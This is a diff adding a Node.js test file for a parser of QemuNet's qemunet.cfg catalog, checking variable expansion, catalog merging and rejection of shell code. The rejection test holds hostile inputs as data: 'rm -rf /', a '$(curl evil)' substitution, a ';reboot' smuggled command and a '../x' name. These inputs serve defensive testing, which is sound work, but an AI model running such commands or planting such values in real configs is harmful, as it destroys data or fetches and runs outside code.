@@ -1,0 +1,48 @@
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+import { describe, it } from 'node:test';
+import { builtinCatalog, mergeCatalog } from '../../src/config/catalog.js';
+import { parseQemunetCfg } from '../../src/config/qemunet-cfg.js';
+import { builtImagePaths } from '../../src/images/store.js';
+import { fixture } from '../helpers/fixtures.js';
+
+const ctx = { qemunetDir: '/opt/qemunet', configDir: '/etc/qn', env: { HOME: '/home/u' } };
+
+describe('qemunet.cfg', () => {
+  it("reads QemuNet's own catalog as data", async () => {
+    const file = fixture('qemunet.cfg');
+    const cfg = parseQemunetCfg(await readFile(file, 'utf8'), file, ctx);
+    assert.equal(cfg.imgdir, '/opt/qemunet/images');
+    assert.deepEqual([...cfg.systems.keys()], ['tinycore', 'debian9', 'debian10', 'debian', 'debian10x', 'debianx', 'alpine', 'alpinex', 'kali', 'winxp', 'win10']);
+    assert.deepEqual(cfg.systems.get('debian'), {
+      name: 'debian',
+      declaredAt: `${file}:38`,
+      sys: 'linux',
+      fs: '/opt/qemunet/images/debian10.img',
+      kernel: '/opt/qemunet/images/debian10.vmlinuz',
+      initrd: '/opt/qemunet/images/debian10.initrd',
+      qemuopt: '-m 200',
+      url: 'http://aurelien.esnard.emi.u-bordeaux.fr/qemunet/debian10.tgz',
+    });
+    assert.equal(cfg.systems.get('win10')?.qemuopt, '-m 4G -smp 2');
+  });
+  it('understands ${VAR}, single quotes and $(realpath PATH)', () => {
+    const cfg = parseQemunetCfg("IMGDIR=$(realpath ../img)\nFS['a']=\"${IMGDIR}/a.img\" # c\nQEMUOPT[a]='-m 1G $x'\nKERNEL[a]=$HOME/k\n", '/etc/qn/q.cfg', ctx);
+    assert.deepEqual(cfg.systems.get('a'), { name: 'a', declaredAt: '/etc/qn/q.cfg:2', fs: '/etc/img/a.img', qemuopt: '-m 1G $x', kernel: '/home/u/k' });
+  });
+  it('refuses shell code, naming file, line, column and what is allowed', () => {
+    assert.throws(() => parseQemunetCfg('SYS[a]="linux"\nrm -rf /\n', 'q.cfg', ctx), { code: 'CONFIG_SYNTAX', message: 'q.cfg:2:1: cannot read "rm -rf /"; allowed: IMGDIR=..., SYS[name]=..., FS[name]=..., KERNEL[name]=..., INITRD[name]=..., URL[name]=..., QEMUOPT[name]=..., declare -A NAME, comments' });
+    assert.throws(() => parseQemunetCfg('FS[a]=$(curl evil)\n', 'q.cfg', ctx), { message: 'q.cfg:1:7: only $VAR, ${VAR} and $(realpath PATH) are understood here' });
+    assert.throws(() => parseQemunetCfg('FS[a]=x;reboot\n', 'q.cfg', ctx), { message: 'q.cfg:1:8: ";" is shell syntax that qemunet does not run; write a plain value' });
+    assert.throws(() => parseQemunetCfg('FS[a]="$NOPE/x"\n', 'q.cfg', ctx), { code: 'CONFIG_VARIABLE' });
+    assert.throws(() => parseQemunetCfg('DISK[a]=x\n', 'q.cfg', ctx), { message: 'q.cfg:1:1: unknown array DISK; allowed: SYS, FS, KERNEL, INITRD, URL, QEMUOPT' });
+    assert.throws(() => parseQemunetCfg('FS[../x]=y\n', 'q.cfg', ctx), { code: 'CONFIG_NAME' });
+  });
+  it('merges over the built-in catalog, which has tiny', () => {
+    const cfg = parseQemunetCfg('SYS[x]="linux"\nFS[x]="/x.img"\nSYS[nofs]="linux"\n', 'q.cfg', ctx);
+    const { catalog, notes } = mergeCatalog(builtinCatalog(builtImagePaths('/s', 'tiny')), [cfg]);
+    assert.deepEqual([...catalog.keys()], ['tiny', 'x']);
+    assert.equal(catalog.get('tiny')?.kernel, '/s/tiny/tiny.vmlinux');
+    assert.deepEqual(notes, ['q.cfg:3: system nofs has no FS[nofs], so it is left out']);
+  });
+});
